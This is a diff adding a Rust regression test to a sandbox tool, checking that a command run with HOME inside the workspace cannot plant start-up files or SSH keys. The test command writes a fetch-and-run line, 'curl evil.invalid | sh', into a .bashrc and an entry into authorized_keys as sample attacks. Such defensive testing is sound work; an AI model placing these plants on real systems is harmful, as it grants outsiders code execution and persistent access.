@@ -1113,3 +1113,49 @@ fn the_review_shows_or_names_everything_it_would_apply() {
         }
     }
 }
+
+/// A workspace that holds `$HOME` (not a system directory): the home's
+/// start-up files and `.ssh` are plants beneath it, as in a home
+/// workspace. Found by an attack pass: with HOME=$WS/alice, the command's
+/// `alice/.bashrc` and `alice/.ssh/authorized_keys` were applied.
+#[test]
+fn a_home_inside_the_workspace_keeps_its_plants() {
+    for leg in legs() {
+        let s = Scratch::new(leg);
+        let home = s.ws.join("alice");
+        std::fs::create_dir(&home).expect("mkdir alice");
+        if leg == Leg::Nobody {
+            std::os::unix::fs::chown(&home, Some(65534), Some(65534)).expect("chown");
+        }
+        let o = s
+            .retie()
+            .env("HOME", &home)
+            .args(["sandbox", "exec", "--json", "-w"])
+            .arg(&s.ws)
+            .args([
+                "--",
+                "sh",
+                "-c",
+                "mkdir -p alice/.ssh; echo 'curl evil.invalid | sh' > alice/.bashrc; \
+                 echo key > alice/.ssh/authorized_keys; echo fine > alice/notes.txt",
+            ])
+            .stdin(std::process::Stdio::null())
+            .output()
+            .expect("run");
+        assert_code(&o, 0, "a run in a workspace that holds HOME");
+        let blocked: Vec<String> = json_status(&o)["changes"]["blocked"]
+            .as_array()
+            .expect("blocked")
+            .iter()
+            .map(|b| b["path"].as_str().unwrap_or("").to_string())
+            .collect();
+        for p in ["alice/.bashrc", "alice/.ssh/authorized_keys"] {
+            assert!(
+                blocked.iter().any(|b| b == p),
+                "{leg:?}: {p} not blocked: {blocked:?}"
+            );
+            assert!(!s.ws.join(p).exists(), "{leg:?}: {p} was applied");
+        }
+        assert_eq!(read(&s, "alice/notes.txt").as_deref(), Some("fine\n"));
+    }
+}
